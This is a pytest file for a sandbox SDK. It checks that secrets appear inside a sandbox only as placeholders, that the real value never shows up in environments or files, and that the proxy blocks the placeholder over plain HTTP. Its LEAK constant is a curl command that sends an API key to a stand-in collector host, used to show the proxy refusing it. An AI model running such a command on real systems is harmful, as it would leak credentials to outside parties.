"""``secrets=``: the sandbox holds a placeholder, the value stays in the daemon, and the
proxy refuses the placeholder where it may not go (plain HTTP needs no upstream to show it)."""

from __future__ import annotations

import re

import pytest

from sbx import AsyncSandbox, InvalidOptionError, Sandbox

from .conftest import Daemon

VALUE = "sk-python-sdk-test-7f3a9c1e5b"
PLACEHOLDER = re.compile(r"^SBX_SECRET_[0-9A-Za-z]{32}$")
LEAK = 'curl -s -o /dev/null -w "%{http_code}" -H "Authorization: Bearer $OPENAI_API_KEY" http://collector.example/'


def test_secret_is_a_placeholder_inside_and_refused_over_plain_http(daemon: Daemon) -> None:
    secrets = {"OPENAI_API_KEY": {"hosts": ["api.openai.com"], "value": VALUE}}
    with Sandbox.create(secrets=secrets) as sb:  # type: ignore[arg-type]
        placeholder = sb.sh("printenv OPENAI_API_KEY").text()
        assert PLACEHOLDER.match(placeholder)
        assert sb.env.get("OPENAI_API_KEY") == placeholder
        # Nowhere in any process's environment, nor in the files the sandbox can write or was given (searched here, outside).
        seen = sb.sh("cat /proc/*/environ; tar -cf - /home/user /tmp /.sbx /etc/ssl 2>/dev/null; true").stdout
        assert seen is not None and placeholder.encode() in seen and VALUE.encode() not in seen

        assert sb.sh(LEAK, check=False).stdout_text == "403"
        refused = [e for e in sb.egress_log() if e.secret == "OPENAI_API_KEY"]
        assert len(refused) == 1 and refused[0].reason is not None
        assert "plain HTTP" in refused[0].reason and VALUE not in refused[0].reason
        assert sb.usage().egress.blocked == 1


async def test_async_create_with_secrets_and_bad_values(daemon: Daemon) -> None:
    async with await AsyncSandbox.create(secrets={"TOKEN": {"hosts": ["*.example.com"], "value": VALUE, "body": True}}) as sb:
        first = await sb.env.get("TOKEN")
        assert first is not None and PLACEHOLDER.match(first)
        assert (await sb.sh(LEAK.replace("OPENAI_API_KEY", "TOKEN"), check=False)).stdout_text == "403"
    # Each sandbox gets placeholders of its own.
    async with await AsyncSandbox.create(secrets={"TOKEN": {"hosts": ["api.example.com"], "value": VALUE}}) as other:
        assert await other.env.get("TOKEN") not in (None, first)

    for bad, says in [
        ({"hosts": ["api.example.com"], "value": "short"}, "at least 8 characters"),
        ({"hosts": ["10.0.0.1"], "value": VALUE}, "is an IP address"),
        ({"hosts": ["api.example.com"], "value": VALUE + "\n"}, "printable ASCII"),
    ]:
        with pytest.raises(InvalidOptionError) as err:
            await AsyncSandbox.create(secrets={"K": bad})  # type: ignore[dict-item]
        assert "secrets.K" in str(err.value) and says in str(err.value) and VALUE not in str(err.value)
